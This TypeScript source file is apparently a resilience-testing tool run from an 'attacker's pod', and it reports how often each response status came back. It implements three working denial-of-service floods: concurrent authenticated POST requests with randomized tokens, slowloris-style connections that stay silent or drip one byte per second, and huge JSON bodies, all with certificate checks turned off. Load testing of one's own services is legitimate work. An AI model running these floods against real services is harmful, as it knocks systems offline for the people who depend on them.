/**
 * A program that floods, run in the network of the attacker's pod with this machine's Node: `node flood.ts '{"kind": …}'`.
 * Prints how often which status came, as JSON. Service certificates are not looked at: an attacker does not care.
 * @module
 */
import { randomBytes } from 'node:crypto';
import { Agent, request } from 'node:https';
import { connect as connectPlain } from 'node:net';
import { connect } from 'node:tls';

/** What is sent, where to, and how much of it. */
export type Flood =
  /** Requests, each with a body and a token; `{random}` in them is another text each time. */
  | {
      readonly kind: 'requests';
      readonly url: string;
      readonly token: string;
      readonly body: string;
      readonly count: number;
      readonly atOnce: number;
      readonly seconds: number;
    }
  /** Connections whose requests never come to their end. */
  | {
      readonly kind: 'slow';
      readonly host: string;
      readonly ports: readonly number[];
      readonly count: number;
      readonly seconds: number;
    }
  /** Bodies of so many bytes: an array of numbers, in chunks, or one with a length. */
  | {
      readonly kind: 'huge';
      readonly url: string;
      readonly bytes: number;
      readonly count: number;
      readonly chunked: boolean;
    };

const given = process.argv[2];
if (given !== undefined) console.log(JSON.stringify(await run(JSON.parse(given) as Flood)));

async function run(flood: Flood): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  const count = (what: string | number) => {
    counts[what] = (counts[what] ?? 0) + 1;
  };
  if (flood.kind === 'requests') await requests(flood, count);
  else if (flood.kind === 'slow') await slow(flood, count);
  else await Promise.all(Array.from({ length: flood.count }, () => huge(flood, count)));
  return counts;
}

type Count = (what: string | number) => void;

async function requests(flood: Flood & { kind: 'requests' }, count: Count): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: flood.atOnce, rejectUnauthorized: false });
  const until = Date.now() + flood.seconds * 1000;
  let left = flood.count;
  const worker = async () => {
    while (left-- > 0 && Date.now() < until) {
      const random = randomBytes(24).toString('base64url');
      const filled = (text: string) => text.replaceAll('{random}', random);
      count(await post(flood.url, agent, filled(flood.token), filled(flood.body)));
    }
  };
  await Promise.all(Array.from({ length: flood.atOnce }, worker));
  agent.destroy();
}

function post(url: string, agent: Agent, token: string, body: string): Promise<string | number> {
  return new Promise((resolve) => {
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` };
    const call = request(url, { method: 'POST', agent, headers, timeout: 20_000 }, (response) => {
      response
        .resume()
        .on('end', () => resolve(response.statusCode ?? 0))
        .on('error', () => resolve('broken'));
    });
    call
      .on('timeout', () => call.destroy())
      .on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
    call.end(body);
  });
}

/** Half of them never speak TLS; the others send a byte of their request now and then. */
async function slow({ host, ports, count: most, seconds }: Flood & { kind: 'slow' }, count: Count): Promise<void> {
  const sockets = Array.from({ length: most }, (_, index) => {
    const port = ports[index % ports.length] ?? 443;
    const isSilent = Math.floor(index / ports.length) % 2 === 0;
    const socket = isSilent ? connectPlain({ host, port }) : connect({ host, port, rejectUnauthorized: false });
    let drip: NodeJS.Timeout | undefined;
    socket.on(isSilent ? 'connect' : 'secureConnect', () => {
      count(isSilent ? 'silent' : 'dripping');
      if (isSilent) return;
      socket.write(
        'POST /certificate HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 16000\r\n\r\n',
      );
      drip = setInterval(() => socket.write('x'), 1000);
    });
    socket.on('error', (error: NodeJS.ErrnoException) => count(error.code ?? 'error'));
    socket.on('close', () => {
      clearInterval(drip);
      count('closed');
    });
    return socket;
  });
  await new Promise((resolve) => setTimeout(resolve, seconds * 1000)); // as long as the attack is to last
  for (const socket of sockets) socket.destroy();
}

function huge({ url, bytes, chunked }: Flood & { kind: 'huge' }, count: Count): Promise<void> {
  return new Promise((resolve) => {
    const agent = new Agent({ rejectUnauthorized: false });
    const headers = { 'content-type': 'application/json', ...(!chunked && { 'content-length': bytes }) };
    const end = (what: string | number) => {
      count(what);
      agent.destroy();
      resolve();
    };
    const call = request(url, { method: 'POST', agent, headers, timeout: 30_000 }, (response) => {
      response.resume();
      end(response.statusCode ?? 0);
    });
    call.on('timeout', () => call.destroy()).on('error', (error: NodeJS.ErrnoException) => end(error.code ?? 'error'));
    const piece = Buffer.from('1,'.repeat(32_768));
    let left = bytes - 2;
    call.write('[');
    const more = () => {
      while (left > 0 && !call.destroyed) {
        const some = piece.subarray(0, Math.min(left, piece.length));
        left -= some.length;
        if (!call.write(some)) return void call.once('drain', more);
      }
      call.end('1]');
    };
    more();
  });
}
